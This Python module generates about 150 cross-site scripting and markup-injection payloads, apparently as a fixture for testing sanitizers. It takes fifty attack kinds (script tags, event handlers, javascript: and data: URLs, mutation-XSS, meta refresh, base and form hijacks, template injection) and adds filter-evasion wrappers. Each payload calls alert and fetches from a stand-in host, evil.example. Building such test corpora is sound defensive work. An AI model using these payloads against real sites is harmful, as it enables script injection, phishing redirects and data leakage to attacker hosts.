"""PAYLOADS: 150 strings that run a script, or reach elsewhere, wherever text is taken for markup.

Fifty kinds that are found in the wild, each as it is and in two dresses that break out of where it
stands or past a filter. What runs calls `alert` and names one host, so that a browser shows it.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from itertools import islice

FOREIGN = "evil.example"
_RUN = f"alert(1);fetch('//{FOREIGN}/run')"

KINDS = (
    # Scripts.
    f"<script>{_RUN}</script>",
    f"<script src=//{FOREIGN}/a.js></script>",
    f"<script type=module>import '//{FOREIGN}/m.js'</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href=//{FOREIGN}/s.js /></svg>",
    f"<script>/*<img src=x onerror={_RUN}>*/{_RUN}</script>",
    # Events of elements.
    f'<img src=x onerror="{_RUN}">',
    f'<img src=x onerror="{_RUN}"//',
    f'<image src=x onerror="{_RUN}">',
    f'<svg onload="{_RUN}">',
    f'<svg/onload="{_RUN}"/>',
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    f"<svg><set attributeName=href to=javascript:{_RUN} /><a id=x><text>x</text></a></svg>",
    f'<body onload="{_RUN}">',
    f'<body onpageshow="{_RUN}">',
    f'<input autofocus onfocus="{_RUN}">',
    f'<select autofocus onfocus="{_RUN}"></select>',
    f'<details open ontoggle="{_RUN}">x</details>',
    f'<video><source onerror="{_RUN}"></video>',
    f'<audio src=x onerror="{_RUN}">',
    f'<marquee onstart="{_RUN}">x</marquee>',
    f'<iframe onload="{_RUN}"></iframe>',
    f'<div style="animation:x" onanimationstart="{_RUN}"></div><style>@keyframes x{{}}</style>',
    f'<x contenteditable autofocus tabindex=1 onfocus="{_RUN}">x',
    f'<object data=x onerror="{_RUN}"></object>',
    f'<link rel=stylesheet href=x onerror="{_RUN}">',
    # Addresses that run or hold a page.
    f"javascript:{_RUN}",
    f'<a href="javascript:{_RUN}" id=x>x</a>',
    f'<iframe src="javascript:parent.alert(1)"></iframe><!--{_RUN}-->',
    f"data:text/html,<script>{_RUN}</script>",
    f'<iframe src="data:text/html,<script>{_RUN}</script>"></iframe>',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<object data=//{FOREIGN}/o></object>",
    f"<embed src=//{FOREIGN}/e>",
    f'https://{FOREIGN}/" onmouseover="{_RUN}" style="position:fixed;inset:0',
    # Markup that changes as it is read a second time.
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={_RUN}>">',
    f'<svg></p><style><a title="</style><img src=x onerror={_RUN}>">',
    f"<template><img src=x onerror={_RUN}></template><img src=x onerror={_RUN}>",
    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{_RUN}">',
    # No script at all: what reaches elsewhere, or takes the page there.
    f"<meta http-equiv=refresh content=0;url=//{FOREIGN}/go>",
    f"<base href=//{FOREIGN}/><script src=/b.js></script>",
    f"<form action=//{FOREIGN}/f><input name=q autofocus><button>Ask</button></form>",
    f"<link rel=stylesheet href=//{FOREIGN}/c.css>",
    f"<link rel=prefetch href=//{FOREIGN}/p>",
    f"<style>@import '//{FOREIGN}/i.css';*{{background:url(//{FOREIGN}/b)}}</style>",
    f'<div style="background:url(//{FOREIGN}/d)">x</div>',
    f"<img src=//{FOREIGN}/pixel.png srcset='//{FOREIGN}/2x.png 2x'>",
    # What templates and formats run.
    f"{{{{constructor.constructor('{_RUN}')()}}}}${{{_RUN}}}<%= {_RUN} %>#{{{_RUN}}}",
    f"[x](javascript:{_RUN}) ![x](//{FOREIGN}/m.png) `</code><img src=x onerror={_RUN}>`",
)

DRESSES: tuple[Callable[[str], str], ...] = (
    lambda kind: f'">{kind}',
    lambda kind: f"'>{kind}",
    lambda kind: f'" autofocus onfocus="alert(1)" x="{kind}',
    lambda kind: f"</title></textarea></script></style>{kind}",
    lambda kind: f"--><!---->{kind}",
    lambda kind: f"]]>{kind}<![CDATA[",
    lambda kind: f"<b>{kind}</b>",
    lambda kind: "".join(each.upper() if at % 2 else each for at, each in enumerate(kind)),
    lambda kind: kind.replace("<", "\uff1c").replace(">", "\uff1e") + kind,  # fullwidth
    lambda kind: kind.replace("<", "&lt;").replace(">", "&gt;") + kind,
    lambda kind: kind.replace("<", "%3C").replace(">", "%3E") + kind,
    lambda kind: kind.replace("<", r"\u003c").replace(">", r"\x3e") + kind,
    lambda kind: f"\u202e{kind}\u202c\u200b\ufeff",  # turned around, and with signs of no width
    lambda kind: kind.replace(" ", "\n", 1) + "\u2028\u2029",
    lambda kind: kind.replace(" ", "/", 1).replace("=", "\t=", 1),
    lambda kind: f"__proto__[{kind}]=<img src=x onerror=alert(1)>",
)


def _dressed(seed: int) -> tuple[str, ...]:
    chance = random.Random(seed)
    made = [*KINDS]
    for kind in KINDS:
        dressed = (dress(kind) for dress in chance.sample(DRESSES, len(DRESSES)))
        made += list(islice((one for one in dressed if one not in made), 2))
    return tuple(made)


PAYLOADS = _dressed(7)
